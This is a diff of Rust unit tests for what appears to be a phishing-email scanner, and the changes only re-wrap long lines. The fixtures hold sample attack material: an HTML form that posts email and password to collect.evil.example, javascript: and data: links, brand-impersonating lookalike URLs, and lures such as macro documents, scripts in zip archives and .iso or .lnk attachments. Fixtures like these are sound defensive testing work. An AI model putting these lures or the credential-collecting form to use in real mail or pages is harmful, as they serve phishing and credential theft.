@@ -178,7 +178,10 @@ fn brand_domain_spoof_with_foreign_reply_to() {
 
 #[test]
 fn mailto_link_to_freemail_counts_as_reply_address() {
-    let r = run(&html_msg(FOREIGN, "<p>If this wasn't you, <a href='mailto:report.openai@outlook.com?subject=x'>report the user</a></p>"), Some(0));
+    let r = run(
+        &html_msg(FOREIGN, "<p>If this wasn't you, <a href='mailto:report.openai@outlook.com?subject=x'>report the user</a></p>"),
+        Some(0),
+    );
     assert!(r.contains(&REPLY_TO_FREEMAIL_BRAND_CLAIM), "{r:?}");
 }
 
@@ -222,7 +225,13 @@ fn shortener_link() {
 
 #[test]
 fn javascript_and_data_links() {
-    let r = run(&html_msg(FOREIGN, "<a href='javascript:alert(1)'>x</a><a href='data:text/html;base64,PGgxPg=='>y</a><img src='data:image/png;base64,AAAA'>"), None);
+    let r = run(
+        &html_msg(
+            FOREIGN,
+            "<a href='javascript:alert(1)'>x</a><a href='data:text/html;base64,PGgxPg=='>y</a><img src='data:image/png;base64,AAAA'>",
+        ),
+        None,
+    );
     assert_eq!(r, vec![LINK_SCRIPT_OR_DATA_URL]);
 }
 
@@ -266,7 +275,8 @@ fn brand_owned_click_tracker_is_never_a_finding() {
 
 #[test]
 fn form_posting_credentials_to_external_host() {
-    let html = "<form method='post' action='https://collect.evil.example/p'><input type='email' name='e'><input type='password' name='p'></form>";
+    let html =
+        "<form method='post' action='https://collect.evil.example/p'><input type='email' name='e'><input type='password' name='p'></form>";
     let r = run(&html_msg(FOREIGN, html), None);
     assert!(r.contains(&FORM_EXTERNAL_ACTION) && r.contains(&FORM_PASSWORD_FIELD), "{r:?}");
 }
@@ -280,7 +290,8 @@ fn search_box_form_is_not_a_credential_form() {
 #[test]
 fn qr_code_in_image_goes_to_lookalike() {
     let png = b64_decode(QR_PNG_B64);
-    let (_, f, c) = run_with(&with_attachment(FOREIGN, "Scan to keep your account", "image/png", "image.png", &png), None, &Limits::default());
+    let (_, f, c) =
+        run_with(&with_attachment(FOREIGN, "Scan to keep your account", "image/png", "image.png", &png), None, &Limits::default());
     assert!(c.links.iter().any(|l| l.source == LinkSource::Qr("image.png".into())), "{:?}", c.links);
     let look = f.iter().find(|f| f.rule == LINK_LOOKALIKE_HOST).expect("lookalike finding");
     assert!(look.evidence.starts_with("QR code in image.png: https://openai-verify.example/login"), "{}", look.evidence);
@@ -342,7 +353,11 @@ fn executable_attachment() {
 
 #[test]
 fn script_inside_zip_archive() {
-    let (_, f, _) = run_with(&with_attachment(FOREIGN, "Invoice", "application/zip", "invoice.zip", &zip_of(&["readme.txt", "invoice.js"])), None, &Limits::default());
+    let (_, f, _) = run_with(
+        &with_attachment(FOREIGN, "Invoice", "application/zip", "invoice.zip", &zip_of(&["readme.txt", "invoice.js"])),
+        None,
+        &Limits::default(),
+    );
     let rules: Vec<_> = f.iter().map(|f| f.rule).collect();
     assert_eq!(rules, vec![ATTACHMENT_ARCHIVE, ATTACHMENT_EXECUTABLE]);
     assert_eq!(f[1].evidence, "invoice.js inside invoice.zip");
@@ -350,22 +365,55 @@ fn script_inside_zip_archive() {
 
 #[test]
 fn macro_enabled_office_document() {
-    let r = run(&with_attachment(FOREIGN, "Invoice", "application/vnd.ms-word.document.macroEnabled.12", "invoice.docm", &zip_of(&["word/document.xml"])), None);
+    let r = run(
+        &with_attachment(
+            FOREIGN,
+            "Invoice",
+            "application/vnd.ms-word.document.macroEnabled.12",
+            "invoice.docm",
+            &zip_of(&["word/document.xml"]),
+        ),
+        None,
+    );
     assert_eq!(r, vec![ATTACHMENT_MACRO_OFFICE]);
-    let r = run(&with_attachment(FOREIGN, "Invoice", "application/octet-stream", "invoice.docx", &zip_of(&["[Content_Types].xml", "word/vbaProject.bin"])), None);
+    let r = run(
+        &with_attachment(
+            FOREIGN,
+            "Invoice",
+            "application/octet-stream",
+            "invoice.docx",
+            &zip_of(&["[Content_Types].xml", "word/vbaProject.bin"]),
+        ),
+        None,
+    );
     assert_eq!(r, vec![ATTACHMENT_MACRO_OFFICE]);
 }
 
 #[test]
 fn plain_office_document_is_not_a_finding() {
-    let r = run(&with_attachment(FOREIGN, "Report", "application/octet-stream", "report.docx", &zip_of(&["[Content_Types].xml", "word/document.xml"])), None);
+    let r = run(
+        &with_attachment(
+            FOREIGN,
+            "Report",
+            "application/octet-stream",
+            "report.docx",
+            &zip_of(&["[Content_Types].xml", "word/document.xml"]),
+        ),
+        None,
+    );
     assert!(r.is_empty(), "{r:?}");
 }
 
 #[test]
 fn disk_image_and_shortcut_attachments() {
-    assert_eq!(run(&with_attachment(FOREIGN, "x", "application/octet-stream", "statement.iso", b"\0\0\0\0"), None), vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]);
-    assert_eq!(run(&with_attachment(FOREIGN, "x", "application/octet-stream", "doc.lnk", b"L\0\0\0\x01\x14\x02\0"), None), vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]);
+    assert_eq!(
+        run(&with_attachment(FOREIGN, "x", "application/octet-stream", "statement.iso", b"\0\0\0\0"), None),
+        vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]
+    );
+    assert_eq!(
+        run(&with_attachment(FOREIGN, "x", "application/octet-stream", "doc.lnk", b"L\0\0\0\x01\x14\x02\0"), None),
+        vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]
+    );
 }
 
 #[test]
@@ -384,7 +432,8 @@ fn html_smuggling_attachment() {
 
 #[test]
 fn pdf_link_to_lookalike() {
-    let pdf = b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://openai-billing.example/pay) >> >> endobj\n%%EOF";
+    let pdf =
+        b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://openai-billing.example/pay) >> >> endobj\n%%EOF";
     let (_, f, _) = run_with(&with_attachment(FOREIGN, "Invoice", "application/pdf", "invoice.pdf", pdf), None, &Limits::default());
     assert!(f.iter().any(|f| f.rule == LINK_LOOKALIKE_HOST && f.evidence.starts_with("in PDF invoice.pdf: ")), "{f:?}");
 }
@@ -399,7 +448,8 @@ fn attached_message_text_is_read() {
 
 #[test]
 fn part_limit_is_reported() {
-    let mut raw = String::from("From: a@b.example\r\nSubject: many\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n");
+    let mut raw =
+        String::from("From: a@b.example\r\nSubject: many\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n");
     for _ in 0..10 {
         raw.push_str("--x\r\nContent-Type: text/plain\r\n\r\nhello\r\n");
     }
